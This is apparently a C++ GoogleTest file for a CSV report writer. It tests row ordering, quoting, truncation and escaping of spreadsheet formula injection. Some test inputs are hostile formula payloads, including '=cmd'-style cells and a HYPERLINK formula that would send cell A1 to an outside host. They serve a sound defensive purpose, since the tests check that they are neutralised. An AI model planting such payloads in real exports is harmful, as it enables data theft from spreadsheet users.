#include "reports/key_list.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "tests/reports/sample_report.h"

namespace cutover::reports {
namespace {

using testing::ElementsAre;
using testing::EndsWith;
using testing::StartsWith;

const std::string header = "key,outcome,reason,detail\n";

std::string text_with(const std::vector<LeftOutKey>& rows) {
  KeyList list;
  for (const LeftOutKey& row : rows) list.add(row);
  list.finish();
  EXPECT_EQ(list.rows(), rows.size());
  EXPECT_EQ(list.left_out(), 0U);
  return list.text();
}

// The cells of one line without its end, as RFC 4180 has it.
std::vector<std::string> cells_of(std::string_view line) {
  std::vector<std::string> cells(1);
  bool quoted = false;
  for (std::size_t place = 0; place < line.size(); ++place) {
    const bool quote = line[place] == '"';
    if (quote && quoted && line.substr(place + 1).starts_with('"')) {
      cells.back() += line[++place];
    } else if (quote) {
      quoted = !quoted;
    } else if (line[place] == ',' && !quoted) {
      cells.emplace_back();
    } else {
      cells.back() += line[place];
    }
  }
  EXPECT_FALSE(quoted) << line;
  return cells;
}

TEST(KeyList, OfNothingIsItsFirstLine) {
  EXPECT_EQ(text_with({}), header);
}

TEST(KeyList, OrdersByKeyThenOutcomeAndReasonWithTheLibraryLastByItsLines) {
  EXPECT_EQ(text_with({{"line 10", "library", "orphan", ""},
                       {"book:b", "inserted", "title_missing", ""},
                       {"line 9", "library", "orphan", ""},
                       {"zebra", "dump", "repeated_key", "line 7"},
                       {"book:b", "inserted", "authors_missing", ""},
                       {"book:a", "rejected", "not_utf8", ""},
                       {"book:b", "dump", "repeated_key", "line 4"}}),
            header +
                "book:a,rejected,not_utf8,\n"
                "book:b,dump,repeated_key,line 4\n"
                "book:b,inserted,authors_missing,\n"
                "book:b,inserted,title_missing,\n"
                "zebra,dump,repeated_key,line 7\n"
                "line 9,library,orphan,\n"
                "line 10,library,orphan,\n");
}

TEST(KeyList, QuotesWhatWouldPartACellOrALine) {
  EXPECT_EQ(text_with({{"a,\"b\"", "rejected", "x", "two\nlines;\r"}}),
            header + R"("a,""b""",rejected,x,"two\nlines;\r")" + "\n");
}

TEST(KeyList, GivesASpreadsheetNoFormula) {
  for (const std::string begins :
       {"=", "+", "-", "@", "'", "\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"}) {
    EXPECT_EQ(text_with({{begins + "cmd", "rejected", "x", begins}}),
              header + "'" + begins + "cmd,rejected,x,'" + begins + "\n");
  }
  EXPECT_EQ(text_with({{"\t=cmd", "rejected", "x", "\r=cmd"}}),
            header + "\\t=cmd,rejected,x,\\r=cmd\n");
  EXPECT_EQ(text_with({{"a=b", "rejected", "x", ""}}), header + "a=b,rejected,x,\n");
}

void expect_one_harmless_row(const std::string& data) {
  const std::string text = text_with({{data, data, data, data}});
  EXPECT_TRUE(is_utf8(text)) << data;
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 2) << data;
  ASSERT_THAT(text, StartsWith(header));
  const std::vector<std::string> cells =
      cells_of(std::string_view(text).substr(header.size(), text.size() - header.size() - 1));
  ASSERT_EQ(cells.size(), 4U) << text;
  for (const std::string& cell : cells) {
    EXPECT_EQ(cell, cells.front());
    EXPECT_EQ(cell.find_first_of("=+-@"), cell.empty() ? cell.npos : cell.find_first_of("=+-@", 1));
    for (const char character : cell) {
      EXPECT_TRUE(static_cast<unsigned char>(character) >= 0x20 && character != 0x7F) << text;
    }
  }
}

TEST(KeyList, IsARowALineWhateverTheDataSays) {
  for (const std::string& text : hostile_texts()) expect_one_harmless_row(text);
  for (unsigned number = 0; number < 300; ++number) expect_one_harmless_row(noise(number));
  expect_one_harmless_row("=HYPERLINK(\"http://example.com/?\"&A1,\"see\")");
}

TEST(KeyList, SaysInItsLastLineWhatDidNotFit) {
  KeyList list(2);
  for (const char* key : {"c", "b", "a", "d"}) list.add({key, "rejected", "x", ""});
  list.finish();
  EXPECT_EQ(list.rows(), 2U);
  EXPECT_EQ(list.left_out(), 2U);
  EXPECT_EQ(list.text(), header +
                             "b,rejected,x,\nc,rejected,x,\n"
                             ",cut,,\"2 more rows did not fit: this file takes 2 rows, and "
                             "256.0 MiB\"\n");
}

TEST(KeyList, CutsACellThatIsLongerThanAnyKeyAndSaysSo) {
  const std::string long_text(5000, 'x');
  const std::string text = text_with({{std::string(512, 'k'), "rejected", "x", long_text}});
  EXPECT_THAT(text, StartsWith(header + std::string(512, 'k') + ",rejected"));
  EXPECT_THAT(text, EndsWith("xxx... (5000 bytes)\n"));
}

TEST(KeyList, ReadsBackAsItsCells) {
  EXPECT_THAT(cells_of(R"("a,""b""",,x)"), ElementsAre("a,\"b\"", "", "x"));
}

}  // namespace
}  // namespace cutover::reports
